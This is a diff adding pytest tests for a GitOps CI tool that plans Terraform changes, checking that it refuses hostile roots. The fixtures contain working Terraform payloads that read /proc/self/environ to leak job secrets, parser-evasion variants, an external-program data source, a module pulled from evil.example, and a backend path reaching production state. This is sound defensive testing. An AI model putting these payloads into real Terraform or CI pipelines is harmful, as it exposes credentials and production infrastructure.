@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import shutil
 from collections.abc import Mapping
@@ -165,3 +166,86 @@ def test_an_engine_gains_no_privileges(repository: Scratch, tmp_path: Path) -> N
     repository.commit({MAIN: ROOT})
     assert gitops_ci(repository.path, "run", "--base", "HEAD~1").code == 3
     assert "NoNewPrivs:\t1" in said.read_text()
+
+
+LEAK = 'output "x" {\n  value = filebase64("/proc/self/environ")\n}\n'
+SECRET = "s3cret-of-the-job"
+
+
+def leaked(repository: Scratch) -> tuple[int, str | None, bool]:
+    """Exit code, why there is no plan, and whether the engine's environment is in what was written."""
+    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1", env={"TF_VAR_unused": SECRET})
+    [plan] = outcome.report.plans
+    text = (outcome.out / "report.json").read_text() + outcome.comment
+    found = any(
+        base64.b64encode(b"x" * shift + SECRET.encode()).decode()[4:20] in text for shift in range(3)
+    ) or SECRET in text  # fmt: skip
+    return outcome.code, plan.reason.code if plan.reason is not None else None, found
+
+
+def test_a_root_that_prints_the_engines_environment_is_not_run(repository: Scratch) -> None:
+    repository.commit({MAIN: LEAK})
+    assert leaked(repository) == (1, "not-allowed", False)
+
+
+def test_the_environment_would_have_been_printed(repository: Scratch) -> None:
+    """What the check is for: where base permits the path, the credential is in the report."""
+    if shutil.which("terraform") is None:
+        pytest.skip("no terraform on PATH here")
+    permitted = f"version: 1\nkinds: {{terraform: {{paths: {{allow: [{MAIN}]}}}}}}\n"
+    repository.commit({"gitops-ci.yml": permitted})
+    repository.commit({MAIN: LEAK})
+    assert leaked(repository) == (0, None, True)
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {MAIN.replace("main.tf", "x.tf.json"): json.dumps({"output": {"x": {"value": '${filebase64("/proc/self/environ")}'}}})},
+        {MAIN: 'locals {\n  a = <<A\n*/ /*\nA\n}\nmodule "m" {\n  source = "../../../m"\n}\n', "m/x.tf": LEAK},
+        {MAIN: 'locals {\n  a = <<A\n\u00a0A\n}\n' + LEAK},
+        {MAIN: 'output "x" {\n  value = templatefile("x.tpl", {})\n}\n', MAIN.replace("main.tf", "x.tpl"): '${filebase64("/proc/self/environ")}'},
+        {MAIN: ROOT, "gitops-ci.yml": f"version: 1\nkinds: {{terraform: {{paths: {{allow: [{MAIN}]}}}}}}\n", MAIN.replace("main", "y"): LEAK},
+    ],
+)  # fmt: skip
+def test_nor_by_any_other_way(repository: Scratch, files: dict[str, str]) -> None:
+    repository.commit(files)
+    assert leaked(repository) == (1, "not-allowed", False)
+
+
+def test_an_old_call_does_not_read_a_new_path(repository: Scratch) -> None:
+    call = 'variable "p" {}\noutput "x" {\n  value = filebase64(var.p)\n}\n'
+    values = MAIN.replace("main.tf", "terraform.tfvars")
+    repository.commit({MAIN: call, values: 'p = "main.tf"\n'})
+    repository.commit({values: 'p = "/proc/self/environ"\n'})
+    assert leaked(repository) == (1, "not-allowed", False)
+
+
+def test_no_engine_starts_for_what_is_not_allowed(repository: Scratch, tmp_path: Path) -> None:
+    ran, engine = tmp_path / "ran", tmp_path / "engine"
+    engine.write_text(
+        f'#!/bin/sh\ncase $* in version*) echo \'{{"terraform_version": "1.11.0"}}\' ;; *) touch {ran}; exit 1 ;; esac\n'
+    )
+    engine.chmod(0o755)
+    repository.commit({"gitops-ci.yml": f"version: 1\nkinds:\n  terraform:\n    binary: {engine}\n"})
+    for content in (
+        'data "external" "x" {\n  program = ["id"]\n}\n',
+        'terraform {\n  required_providers {\n    x = {\n      source = "evil/x"\n    }\n  }\n}\n',
+        'module "m" {\n  source = "git::https://evil.example/x.git"\n}\n',
+    ):
+        repository.commit({MAIN: content})
+        assert reasons(repository) == (1, {"not-allowed"})
+        assert not ran.exists()
+
+
+def test_an_environment_that_only_warns_does_not_reach_for_production(repository: Scratch) -> None:
+    binds = "environments:\n  - {name: staging, enforcement: warn}\n  - {name: production, bind: {backend: 'local:states/production/*'}}\n"
+    repository.commit({"gitops-ci.yml": f"version: 1\n{binds}", "states/production/x.tfstate": ""})
+    backend = 'terraform {\n  backend "local" {\n    path = "../../../states/production/x.tfstate"\n  }\n}\n'
+    repository.commit({MAIN: backend + ROOT})
+    assert reasons(repository) == (1, {"binding"})
+
+
+def test_hcl_that_only_terraform_understands_is_not_planned_blindly(repository: Scratch) -> None:
+    repository.commit({MAIN: "locals {\n  e\u0301 = 1\n}\n"})
+    assert reasons(repository) == (1, {"invalid"})
